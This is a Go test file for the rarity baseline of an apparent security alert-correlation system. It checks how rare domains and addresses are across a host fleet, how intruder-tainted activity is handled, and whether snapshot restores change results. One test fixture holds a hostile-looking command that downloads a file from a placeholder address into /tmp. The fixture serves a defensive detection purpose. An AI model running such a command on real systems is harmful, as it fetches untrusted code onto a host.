package incident

import (
	"bytes"
	"encoding/gob"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"testing"
	"time"

	"pgregory.net/rapid"

	"baize/internal/alert"
	"baize/internal/lru"
)

// hosts is a fleet under test, whose first moment is 0.
type hosts struct {
	*Baseline
	now int64
}

// fleetOf is a fleet of n hosts that were first heard of two days ago.
func fleetOf(n int) *hosts {
	f := &hosts{Baseline: NewBaseline(100_000)}
	f.breathe(n)
	f.now = 2 * int64(day)
	return f
}

// breathe has each host use a thing of its own.
func (f *hosts) breathe(n int) {
	for i := range n {
		f.saw(named(fmt.Sprintf("own-%d.example", i)), i, fmt.Sprintf("own:%d", i))
	}
}

func named(name string) Subject { return Subject{Org: "o", Name: name} }

func (f *hosts) saw(s Subject, host int, carrier string) {
	f.Saw(s, Use{Host: fmt.Sprintf("host-%d", host), Carrier: carrier}, f.now)
}

// everybody has a lineage on each of n hosts use something.
func (f *hosts) everybody(s Subject, n int) {
	for i := range n {
		f.saw(s, i, fmt.Sprintf("benign:%d", i))
	}
}

func (f *hosts) rare(s Subject) float64 { return f.rarity(s, &alert.Entity{}, f.now) }

func TestSubjects(t *testing.T) {
	if s, ok := subjectOf("o", &alert.Entity{Type: alert.EntityDomain, Value: "x.evil.example"}); !ok || s.Name != "evil.example" {
		t.Errorf("subject %+v", s)
	}
	for value, want := range map[string]string{"a.b.co.uk": "b.co.uk", "host": "", "db.internal": "", "x.github.io": "x.github.io", "evil.test": "evil.test", "": "", ".": ""} {
		if got := Registrable(value); got != want {
			t.Errorf("Registrable(%q) = %q, want %q", value, got, want)
		}
	}
}

// TestRarity is the table of docs/architecture.md: an entity that was first used
// two days ago by benign lineages of so many hosts, in fleets of so many, and one
// that was first used today. 65 hosts and more are estimated.
func TestRarity(t *testing.T) {
	for _, c := range []struct {
		fleet, users      int
		twoDaysAgo, today float64
		tolerance         float64
	}{
		{fleet: 1, users: 0, twoDaysAgo: 0, today: 1},
		{fleet: 1, users: 1, twoDaysAgo: 0, today: 0},
		{fleet: 6, users: 0, twoDaysAgo: 0, today: 1},
		{fleet: 6, users: 1, twoDaysAgo: 0, today: 0},
		{fleet: 6, users: 6, twoDaysAgo: 0, today: 0},
		{fleet: 50, users: 0, twoDaysAgo: 1, today: 1},
		{fleet: 50, users: 1, twoDaysAgo: 0.23, today: 1},
		{fleet: 50, users: 2, twoDaysAgo: 0.13, today: 1},
		{fleet: 50, users: 5, twoDaysAgo: 0, today: 1},
		{fleet: 50, users: 50, twoDaysAgo: 0, today: 1},
		{fleet: 5_000, users: 0, twoDaysAgo: 1, today: 1},
		{fleet: 5_000, users: 1, twoDaysAgo: 0.9, today: 1},
		{fleet: 5_000, users: 2, twoDaysAgo: 0.8, today: 1},
		{fleet: 5_000, users: 5, twoDaysAgo: 0.67, today: 1},
		{fleet: 5_000, users: 50, twoDaysAgo: 0.33, today: 1},
		{fleet: 5_000, users: 150, twoDaysAgo: 0.17, today: 1, tolerance: 0.06},
		{fleet: 5_000, users: 1_000, twoDaysAgo: 0, today: 1},
	} {
		old, fresh := named("old.example"), named("new.example")
		f := fleetOf(c.fleet)
		f.now = 0
		f.saw(old, 0, "intruder")
		f.everybody(old, c.users)
		f.now = 2 * int64(day)
		f.saw(fresh, 0, "intruder")
		f.everybody(fresh, c.users)
		f.taint("intruder", f.now)
		if got := f.rare(old); got < c.twoDaysAgo-c.tolerance || got > c.twoDaysAgo+c.tolerance {
			t.Errorf("%d hosts of %d, two days ago: %v, want %v", c.users, c.fleet, got, c.twoDaysAgo)
		}
		if got := f.rare(fresh); got != c.today {
			t.Errorf("%d hosts of %d, today: %v, want %v", c.users, c.fleet, got, c.today)
		}
	}
}

func TestWhatTelemetryNeverSawIsRare(t *testing.T) {
	for _, n := range []int{1, 6, 50, 5_000} {
		if got := fleetOf(n).rare(named("never.example")); got != 1 {
			t.Errorf("fleet of %d: %v", n, got)
		}
	}
}

// TestTheFirstDayOfAFleet: nothing is proven yet, so what any benign lineage uses
// is ordinary, however many hosts there are.
func TestTheFirstDayOfAFleet(t *testing.T) {
	f := &hosts{Baseline: NewBaseline(100_000)}
	mirror, once, mark := named("mirror.example"), named("once.example"), named("mark.example")
	f.breathe(5_000)
	f.everybody(mirror, 5_000)
	f.saw(once, 7, "benign:7")
	for i := range 100 {
		carrier := fmt.Sprintf("intruder:%d", i)
		f.taint(carrier, 0)
		f.saw(mark, i, carrier)
		f.saw(mirror, i, carrier)
	}
	for _, hour := range []int{0, 1, 23, 24} {
		f.now = int64(hour) * int64(time.Hour)
		if a, b, c := f.rare(mirror), f.rare(once), f.rare(mark); a != 0 || b != 0 || c != 1 {
			t.Errorf("after %d hours: mirror %v, used once %v, the intruder's %v; want 0, 0, 1", hour, a, b, c)
		}
	}
	f.now = 25 * int64(time.Hour)
	if a, b, c := f.rare(mirror), f.rare(once), f.rare(mark); a != 0 || b != 0.9 || c != 1 {
		t.Errorf("on the second day: mirror %v, used once %v, the intruder's %v; want 0, 0.9, 1", a, b, c)
	}
}

// TestHostsThatJustCameMakeNothingRare: a fleet of 30 becomes one of 3,000 in an
// hour; what 10 of the 30 use is as ordinary as before.
func TestHostsThatJustCameMakeNothingRare(t *testing.T) {
	f := fleetOf(30)
	f.now = 0
	f.everybody(named("mirror.example"), 10)
	f.now = 2 * int64(day)
	f.breathe(3_000)
	f.now += int64(time.Hour)
	if got := f.rare(named("mirror.example")); got != 0 {
		t.Errorf("rarity %v, want 0", got)
	}
}

// TestHostsThatLeftDoNotCount: of 5,000 hosts 50 are left, and what 5 of them use is
// ordinary among those.
func TestHostsThatLeftDoNotCount(t *testing.T) {
	f := fleetOf(5_000)
	f.everybody(named("mirror.example"), 5)
	for range 10 {
		f.now += int64(day)
		f.breathe(50)
	}
	f.now += int64(time.Hour)
	if got := f.rare(named("mirror.example")); got != 0 {
		t.Errorf("rarity %v, want 0", got)
	}
}

// TestAnIntruderCannotMakeHisOwnCommon: he uses his address from ten lineages on
// each of 500 hosts, none of which has raised an alert, for a day.
func TestAnIntruderCannotMakeHisOwnCommon(t *testing.T) {
	f, mark := fleetOf(5_000), named("mark.example")
	began := f.now
	for hour := range 24 {
		f.now = began + int64(hour)*int64(time.Hour)
		for i := range 5_000 {
			f.saw(mark, i%500, fmt.Sprintf("quiet:%d:%d", hour, i))
		}
	}
	for f.now = began; f.now <= began+int64(proven); f.now += int64(time.Hour) {
		if got := f.rare(mark); got != 1 {
			t.Fatalf("after %v: %v, want 1", time.Duration(f.now-began), got)
		}
	}
	f.now = began + int64(proven) + int64(time.Minute)
	if got := f.rare(mark); got == 1 {
		t.Error("a use of before the last day counts for nothing")
	}
}

// TestALineageThatIsTaintedLaterTakesItsUsesAlong, also those that count already,
// and on a host that others vouch for nothing changes.
func TestALineageThatIsTaintedLaterTakesItsUsesAlong(t *testing.T) {
	f, mark := fleetOf(50), named("mark.example")
	f.now = 0
	for i := range 10 {
		f.saw(mark, i, fmt.Sprintf("slow:%d", i))
	}
	f.saw(mark, 9, "benign:9")
	f.now = 3 * int64(day)
	if got := f.rare(mark); got != 0 {
		t.Fatalf("rarity %v before anybody was noticed, want 0", got)
	}
	for i := range 10 {
		f.taint(fmt.Sprintf("slow:%d", i), f.now)
	}
	if got := f.rare(mark); got != 0.23 {
		t.Errorf("rarity %v, want 0.23: one host is left", got)
	}
	f.saw(mark, 1, "slow:0")
	f.saw(mark, 2, "benign:2")
	f.Saw(mark, Use{Host: "host-3", Carrier: "job", Tainted: true}, f.now)
	f.now += 2 * int64(day)
	if got := f.rare(mark); got != 0.13 {
		t.Errorf("rarity %v, want 0.13: a benign lineage took the place on a second host", got)
	}
}

// TestATaintBeforeTheDayIsOverLeavesNoTrace: the day is there for this.
func TestATaintBeforeTheDayIsOverLeavesNoTrace(t *testing.T) {
	f, mark := fleetOf(5_000), named("mark.example")
	for i := range 1_000 {
		f.saw(mark, i, fmt.Sprintf("worm:%d", i))
	}
	f.now += int64(proven) - 1
	for i := range 1_000 {
		f.taint(fmt.Sprintf("worm:%d", i), f.now)
	}
	f.now += 5 * int64(day)
	for i := range 1_000 {
		f.saw(mark, i, fmt.Sprintf("worm:%d", i))
	}
	if got := f.rare(mark); got != 1 {
		t.Errorf("rarity %v, want 1", got)
	}
}

// TestAnIntruderCannotMakeOrdinaryThingsRare by touching them, from lineages of his
// that are tainted before or after, on the hosts that he has.
func TestAnIntruderCannotMakeOrdinaryThingsRare(t *testing.T) {
	for _, n := range []int{1, 6, 50, 5_000} {
		f, mirror := fleetOf(n), named("mirror.example")
		f.now = 0
		for i := range n { // before anybody else, and as often as there is room
			for k := range 2 * perHost {
				f.saw(mirror, i, fmt.Sprintf("intruder:%d:%d", i, k))
			}
		}
		f.everybody(mirror, n)
		for i := range n {
			for k := range 2 * perHost {
				f.taint(fmt.Sprintf("intruder:%d:%d", i, k), f.now)
			}
		}
		f.everybody(mirror, n)
		for i := range n {
			for k := range 2 * perHost {
				f.saw(mirror, i, fmt.Sprintf("intruder:%d:%d", i, k))
			}
		}
		f.now = 2 * int64(day)
		if got := f.rare(mirror); got != 0 {
			t.Errorf("fleet of %d: %v, want 0", n, got)
		}
	}
}

// TestAFloodPushesOutNothingInUse: three of 50 hosts ask for a hundred times more
// names than there is room for.
func TestAFloodPushesOutNothingInUse(t *testing.T) {
	const limit = 2_000
	f := &hosts{Baseline: NewBaseline(limit)}
	ordinary := func() {
		for i := range 500 {
			for host := range 10 {
				f.saw(named(fmt.Sprintf("ordinary-%d.example", i)), (i+5*host)%50, "benign")
			}
		}
	}
	for range 14 { // what there is to introduce takes its time
		ordinary()
		f.now += int64(day)
	}
	for i := range 100 * limit {
		f.saw(named(fmt.Sprintf("flood-%d.example", i)), i%3, "quiet")
	}
	mark := named("mark.example")
	f.taint("intruder", f.now)
	f.saw(mark, 0, "intruder")
	for i := range 500 {
		if got := f.rare(named(fmt.Sprintf("ordinary-%d.example", i))); got != 0 {
			t.Fatalf("name %d became %v", i, got)
		}
	}
	if got := f.rare(mark); got != 1 {
		t.Errorf("the flooding host's own mark is %v, want 1", got)
	}
	if f.seen.Evicted() > 0 || f.seen.Len() > 500+3*limit/maxShare {
		t.Errorf("%d entities, %d pushed out", f.seen.Len(), f.seen.Evicted())
	}
	f.now += int64(day)
	f.saw(named("tomorrow.example"), 0, "benign")
	if f.seen.Peek(named("tomorrow.example")) == nil {
		t.Error("a host that flooded yesterday is not believed today")
	}
}

// TestASampleCounts is about the error of the estimate, and that neither order nor
// repetition matters.
func TestASampleCounts(t *testing.T) {
	nobody := func(uint64) bool { return false }
	for _, n := range []int{0, 1, 20, perHost * maxWitnesses / 4, 64, 65, 200, 5_000, 100_000} {
		one, two := newSample(), newSample()
		for i := range n {
			for range 2 {
				one.add(witness{Host: hostHash(fmt.Sprint(i)), Carrier: uint64(i)}, nobody)
			}
			two.add(witness{Host: hostHash(fmt.Sprint(n - 1 - i)), Carrier: uint64(n - 1 - i)}, nobody)
		}
		got := one.count(1, nobody)
		if again := two.count(1, nobody); again != got {
			t.Errorf("%d hosts are %d, in another order %d", n, got, again)
		}
		if n <= maxWitnesses && got != n || float64(got) < 0.65*float64(n) || float64(got) > 1.35*float64(n) {
			t.Errorf("%d hosts are counted as %d", n, got)
		}
		if len(one.Seen) > maxWitnesses || cap(one.Seen) > 2*maxWitnesses {
			t.Errorf("%d witnesses in the place of %d", len(one.Seen), cap(one.Seen))
		}
	}
}

// TestTheTaintedMakeRoom: 64 witnesses who turned out to be an intruder's cost the
// benign ones that follow no precision.
func TestTheTaintedMakeRoom(t *testing.T) {
	f, mark := fleetOf(100), named("mark.example")
	for i := range maxWitnesses {
		f.saw(mark, i, "intruder")
	}
	f.taint("intruder", f.now)
	for i := range 40 {
		f.saw(mark, i+maxWitnesses/2, "benign")
	}
	slot := f.seen.Peek(mark)
	if got := slot.Hosts.count(minute(f.now)+1, f.isTainted); got != 40 || slot.Hosts.Below != everyHost {
		t.Errorf("%d hosts of those below %d, want 40 of all", got, slot.Hosts.Below)
	}
	f.saw(named("other.example"), 1, "intruder")
	if slot := f.seen.Peek(named("other.example")); len(slot.Hosts.Seen) > 0 {
		t.Errorf("who is tainted already takes room: %+v", slot.Hosts.Seen)
	}
}

// TestTheBaselineAgainstAList: up to 32 hosts the sample is what the plain list of
// all uses says, before and after a restart.
func TestTheBaselineAgainstAList(t *testing.T) {
	type use struct{ host, carrier int }
	rapid.Check(t, func(rt *rapid.T) {
		f, s := fleetOf(maxWitnesses/perHost), named("x.example")
		first, tainted := map[use]int64{}, map[int]bool{}
		for range rapid.IntRange(1, 60).Draw(rt, "uses") {
			f.now += int64(rapid.IntRange(0, 12).Draw(rt, "hours")) * int64(time.Hour)
			u := use{rapid.IntRange(0, 31).Draw(rt, "host"), rapid.IntRange(0, perHost-1).Draw(rt, "lineage")}
			u.carrier += perHost * u.host
			switch rapid.IntRange(0, 5).Draw(rt, "what") {
			case 0:
				tainted[u.carrier] = true
				f.taint(fmt.Sprint(u.carrier), f.now)
			case 1:
				f.Baseline = rebornBaseline(rt, f.Baseline)
			default:
				if _, known := first[u]; !known && !tainted[u.carrier] {
					first[u] = f.now
				}
				f.saw(s, u.host, fmt.Sprint(u.carrier))
			}
		}
		vouched := map[int]bool{}
		for u, at := range first {
			if !tainted[u.carrier] && f.now-at > int64(proven) {
				vouched[u.host] = true
			}
		}
		slot := f.seen.Peek(s)
		if slot == nil {
			return
		}
		if got := slot.Hosts.count(minute(f.now)-minutes(proven), f.isTainted); got != len(vouched) {
			rt.Fatalf("%d hosts, want %d", got, len(vouched))
		}
	})
}

// rebornBaseline is one restored from a snapshot.
func rebornBaseline(t *rapid.T, b *Baseline) *Baseline {
	var snapshot bytes.Buffer
	if err := New(DefaultConfig(), b).Snapshot(gob.NewEncoder(&snapshot)); err != nil {
		t.Fatal(err)
	}
	other := NewBaseline(100_000)
	if err := New(DefaultConfig(), other).Restore(gob.NewDecoder(&snapshot)); err != nil {
		t.Fatal(err)
	}
	return other
}

// cramped is a baseline whose every limit is soon reached.
func cramped() *hosts {
	f := &hosts{Baseline: NewBaseline(200)}
	f.fleet.hosts, f.tainted = lru.New[fleetHost, member](60), lru.New[uint64, bool](30)
	return f
}

// TestARestartChangesNoAnswer: two baselines of which one was restored halfway
// answer alike to the end, at limits that are all reached.
func TestARestartChangesNoAnswer(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		r := rand.New(rand.NewPCG(rapid.Uint64().Draw(rt, "seed"), 1))
		whole, restart := cramped(), rapid.IntRange(1, 999).Draw(rt, "restart")
		var again *hosts
		for i := range 1_000 {
			if i == restart {
				var snapshot bytes.Buffer
				if err := gob.NewEncoder(&snapshot).Encode(whole.keep()); err != nil {
					rt.Fatal(err)
				}
				var state baselineState
				if err := gob.NewDecoder(&snapshot).Decode(&state); err != nil {
					rt.Fatal(err)
				}
				again = cramped()
				again.restore(&state)
			}
			s := named(fmt.Sprint(r.ExpFloat64() * 20)[:2])
			host, carrier, bad, now := r.IntN(100), fmt.Sprint(r.IntN(300)), r.IntN(20) == 0, whole.now+int64(r.IntN(40))*int64(time.Minute)
			for _, f := range []*hosts{whole, again} {
				if f == nil {
					continue
				}
				f.now = now
				if bad {
					f.taint(carrier, f.now)
				}
				f.saw(s, host, carrier)
			}
			if again != nil && again.rare(s) != whole.rare(s) {
				rt.Fatalf("step %d: %v is %v, and %v without a restart", i, s, again.rare(s), whole.rare(s))
			}
		}
	})
}

func TestOrganisationsAreFleetsOfTheirOwn(t *testing.T) {
	f := fleetOf(50)
	f.now = 0
	f.everybody(named("x.example"), 50)
	f.Saw(Subject{Org: "other", Name: "y.example"}, Use{Host: "host-1", Carrier: "benign"}, 0)
	f.now = 2 * int64(day)
	if a, b := f.rare(named("x.example")), f.rare(Subject{Org: "other", Name: "x.example"}); a != 0 || b != 1 {
		t.Errorf("%v and, in another organisation, %v; want 0 and 1", a, b)
	}
	if got := f.fleet.size("other", f.now); got != 1 {
		t.Errorf("a fleet of %d, want 1", got)
	}
}

// TestRarityWeighsReasons: in a fleet of 5,000 an address that even one
// benign host uses is a reason beside another one, and none alone.
func TestRarityWeighsReasons(t *testing.T) {
	peer := alert.Entity{Type: alert.EntityIP, Value: "203.0.113.9", Role: "destination"}
	command := alert.Entity{Type: alert.EntityCommand, Value: "sh -c curl http://203.0.113.9/t -o /tmp/x"}
	for _, c := range []struct {
		users    int
		entities []alert.Entity
		reason   string
		weight   float64
	}{
		{users: 0, entities: []alert.Entity{peer}, reason: ReasonAddress, weight: 0.85},
		{users: 1, entities: []alert.Entity{peer}},
		{users: 1, entities: []alert.Entity{peer, command}, reason: ReasonAddress + "+" + ReasonCommand, weight: 0.906},
		{users: 5, entities: []alert.Entity{peer}},
		{users: 5, entities: []alert.Entity{peer, command}, reason: ReasonCommand + "+" + ReasonAddress, weight: 0.828},
		{users: 5_000, entities: []alert.Entity{peer, command}},
	} {
		f := fleetOf(5_000)
		f.now = 0
		f.everybody(Subject{Addr: netip.MustParseAddr(peer.Value)}, c.users)
		for i := range 5_000 {
			f.Saw(Subject{Name: "mirror.example"}, Use{Host: fmt.Sprintf("host-%d", i), Carrier: "benign"}, 0)
		}
		m, now := New(DefaultConfig(), f.Baseline), 2*int64(day)
		m.Add(high("a", "A", c.entities...), Facts{}, now)
		_, reasons := m.Add(high("b", "B", c.entities...), Facts{}, now)
		switch {
		case c.reason == "" && len(reasons) > 0:
			t.Errorf("%d users: joined by %+v", c.users, reasons)
		case c.reason != "" && (len(reasons) != 1 || reasons[0].Reason != c.reason || reasons[0].Weight != c.weight):
			t.Errorf("%d users: %+v, want %s of weight %v", c.users, reasons, c.reason, c.weight)
		}
	}
}

// TestAnAlertThatIsRarerIsNotCovered: between two alerts of one lineage it comes out
// that the only other user of their address was an intruder too. The second one ties.
func TestAnAlertThatIsRarerIsNotCovered(t *testing.T) {
	peer := alert.Entity{Type: alert.EntityIP, Value: "203.0.113.9", Role: "destination"}
	f := fleetOf(50)
	f.now = 0
	for i := range 50 {
		f.Saw(Subject{Name: "mirror.example"}, Use{Host: fmt.Sprintf("host-%d", i), Carrier: "benign"}, 0)
	}
	f.Saw(Subject{Addr: netip.MustParseAddr(peer.Value)}, Use{Host: "host-1", Carrier: "slow"}, 0)
	m, now := New(DefaultConfig(), f.Baseline), 2*int64(day)
	first, _ := m.Add(high("a1", "A", peer), Facts{}, now)
	m.Add(high("s", "slow"), Facts{}, now)
	m.Add(high("a2", "A", peer), Facts{}, now)
	if got, _ := m.Add(high("b", "B", peer), Facts{}, now); got != first {
		t.Errorf("in %s, want %s", got, first)
	}
}
